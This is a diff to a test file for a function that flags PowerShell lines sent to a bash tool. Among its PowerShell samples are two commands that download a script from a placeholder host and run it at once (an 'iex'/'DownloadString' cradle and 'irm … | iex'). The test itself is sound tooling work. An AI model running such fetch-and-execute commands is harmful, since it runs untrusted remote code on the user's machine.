@@ -88,7 +88,7 @@ describe("a line sent to a bash tool that is PowerShell", () => {
       "$Env:Path += ';C:\\bin'",
       "$count = (Get-ChildItem src).Count",
       "Get-ChildItem -Recurse *.cs",
-      "sl .\\web; npm test",
+      "iex (New-Object Net.WebClient).DownloadString('https://x.test/a.ps1')",
       "git log -1 | Out-File last.txt",
       "irm https://x.test/s.ps1 | iex",
     ];
@@ -100,6 +100,11 @@ describe("a line sent to a bash tool that is PowerShell", () => {
       "echo $HOME",
       "x=$(date); echo $x",
       "start-stop-daemon --status --name web",
+      // Unix programs named as PowerShell's aliases are: Elixir's shell, Ruby's docs, a package-manager front end.
+      "echo 'IO.puts(1 + 1)' | iex",
+      "iex -S mix phx.server",
+      "ri Array#each",
+      "ni -D vitest",
     ];
     expect(powershell.filter((line) => !looksLikePowershell(line))).toEqual([]);
     expect(bash.filter((line) => looksLikePowershell(line))).toEqual([]);
